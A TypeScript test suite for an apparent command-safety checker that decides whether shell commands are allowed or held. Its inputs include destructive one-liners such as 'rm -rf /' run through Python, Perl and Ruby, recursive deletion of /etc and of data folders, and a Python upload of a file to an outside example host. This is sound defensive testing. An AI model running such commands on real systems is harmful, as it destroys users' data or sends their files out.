/** Where an interpreter has its program from, and what it is given besides. */
import { describe, expect, it } from "vitest";
import { judgeIn, type World } from "../support/little-world.ts";

function check(run: string, expected: "allow" | "held", world: World = {}): void {
  it(run.split("\n").join(" ⏎ "), async () => {
    const { decision, reasons } = await judgeIn(world, { kind: "command", text: run });
    const why = reasons.map(({ because }) => because).join("\n");
    expect(`${decision === "allow" ? "allow" : "held"}\n${why}`).toBe(`${expected}\n${why}`);
  });
}

const WIPES = "import shutil\nshutil.rmtree('uploads')\n";
const FILES = { "uploads/a.png": "x", "wipe.py": WIPES, "keep.py": "print(1)\n" };

describe("from a file", () => {
  check("python3 wipe.py", "held", { files: FILES });
  check("python3 keep.py", "allow", { files: FILES });
  check("cd scripts && python3 ../wipe.py", "held", { files: { ...FILES, "scripts/x": "" } });
  check("python3 -u -W ignore wipe.py --force", "held", { files: FILES });
  check("python3 < wipe.py", "held", { files: FILES });
  check("cat wipe.py | python3", "held", { files: FILES });
  check("cp wipe.py /tmp/w.py && python3 /tmp/w.py", "held", { files: FILES });
  check("python3 scripts/tidy.py data", "held", {
    files: { "scripts/tidy.py": "import sys, shutil\nshutil.rmtree(sys.argv[1])\n", "data/a": "x" },
  });
  check("python3 -m tools.wipe", "held", { files: { ...FILES, "tools/wipe.py": WIPES } });
  check("node node_modules/.bin/prisma migrate reset --force", "held");
  check("./wipe.py", "held", { files: { ...FILES, "wipe.py": `#!/usr/bin/env python3\n${WIPES}` } });
});

describe("what was there before, with names that its callers choose", () => {
  const prune = "import os\ndef prune(old):\n    for path in old:\n        os.remove(path)\nprune(load())\n";
  check("python3 train.py", "allow", { files: { "train.py": prune }, git: {} });
  check("python3 train.py", "held", { files: { "train.py": prune }, git: { modified: ["train.py"] } });
  check("python3 train.py", "held", { files: { "train.py": prune }, git: { untracked: ["train.py"] } });
});

describe("from an option", () => {
  check("python3 -Ic 'import os; os.system(\"rm -rf /\")'", "held");
  check("python3 -c 'import sys; print(sys.argv)' rm -rf /", "allow");
  check("node -r ./setup.js -e \"require('fs').rmSync('/etc', { recursive: true })\"", "held");
  check("node -pe '1 + 1'", "allow");
  check("perl -Mstrict -e 'my $x = 1;' -e 'system(\"rm -rf /\")'", "held");
  check("ruby -e 'x = 1' -e 'system(\"rm -rf /\")'", "held");
  check("php -d memory_limit=1G -r 'unlink(\"notes.md\");'", "held", { files: { "notes.md": "x" } });
  check("D=/etc; python3 -c \"import shutil; shutil.rmtree('$D')\"", "held");
});

describe("a file that is read and written again", () => {
  const unsaved = { files: { "src/app.ts": "x", "notes.txt": "x" }, git: { modified: ["src/app.ts"] } };
  const edits = (code: string, expected: "allow" | "held" = "allow") =>
    check(`python3 - <<'E'\n${code}\nE`, expected, unsaved);
  edits('t = open("src/app.ts").read()\nopen("src/app.ts", "w").write(t.replace("a", "b"))');
  edits(
    'with open("src/app.ts") as f:\n    t = f.readlines()\nwith open("src/app.ts", "w") as f:\n    f.writelines(t)',
  );
  edits('from pathlib import Path\np = Path("src/app.ts")\np.write_text(p.read_text().upper())');
  edits('import json\nd = json.load(open("src/app.ts"))\njson.dump(d, open("src/app.ts", "w"))');
  edits('open("src/app.ts").read()\nopen("src/app.ts", "w").close()', "held");
  edits('open("src/app.ts").read()\nopen("src/app.ts", "w").write("")', "held");
  edits('t = open("notes.txt").read()\nopen("src/app.ts", "w").write(t)', "held");
  edits('from pathlib import Path\np = Path("src/app.ts")\nprint(p.read_text())\np.write_text("")', "held");
  const js = 'const fs = require("fs"); const t = fs.readFileSync("src/app.ts", "utf8");';
  check(`node -e '${js} fs.writeFileSync("src/app.ts", t.trim())'`, "allow", unsaved);
  check(`node -e '${js} fs.writeFileSync("src/app.ts", "")'`, "held", unsaved);
  check('ruby -e \'s = File.read("src/app.ts"); File.write("src/app.ts", s.gsub(/a/, "b"))\'', "allow", unsaved);
});

describe("in a language that nobody parses, written and then run", () => {
  const there = { files: { "data/a.csv": "x", "notes.txt": "x" } };
  const program = (file: string, text: string, run: string, expected: "allow" | "held" = "held") =>
    check(`cat > ${file} <<'E'\n${text}\nE\n${run}`, expected, there);
  program("x.go", 'package main\nimport "os"\nfunc main() { os.RemoveAll("data") }', "go run x.go");
  program("m.rs", 'fn main() { std::fs::remove_file("notes.txt").unwrap(); }', "rustc m.rs && ./m");
  program("k.c", '#include <stdio.h>\nint main(void) { return remove("notes.txt"); }', "cc k.c && ./a.out");
  program(
    "k.cpp",
    '#include <filesystem>\nint main() { std::filesystem::remove_all("data"); }',
    "g++ k.cpp && ./a.out",
  );
  program("D.java", 'class D { void d() throws Exception { Files.delete(Path.of("notes.txt")); } }', "java D.java");
  program("y.kts", 'java.io.File("data").deleteRecursively()', "kotlinc -script y.kts");
  program("x.dart", 'void main() { Directory("data").deleteSync(recursive: true); }', "dart x.dart");
  program("build.gradle", "task x(type: Delete) { delete 'data' }", "gradle x");
  program("build.xml", '<project><target name="x"><delete dir="data"/></target></project>', "ant x");
  program("CMakeLists.txt", "file(REMOVE_RECURSE ${CMAKE_SOURCE_DIR}/data)", "cmake .");
  program("w.go", 'package main\nimport "os"\nfunc main() { os.WriteFile("notes.txt", nil, 0o644) }', "go run w.go");
  const own = 'package main\nimport "os"\nfunc main() { os.MkdirAll("out", 0o755); os.RemoveAll("out") }';
  program("t.go", own, "go run t.go", "allow");
  program("m.go", 'package main\nfunc main() { m := Map{}; m.remove("notes.txt") }', "go run m.go", "allow");
});

describe("a file that goes to another host", () => {
  const sends = (host: string) => `python3 -c 'import requests; requests.post("${host}", files={"f": open("a.csv")})'`;
  check(sends("https://files.example.net/up"), "held");
  check(sends("http://localhost:8000/up"), "allow");
});
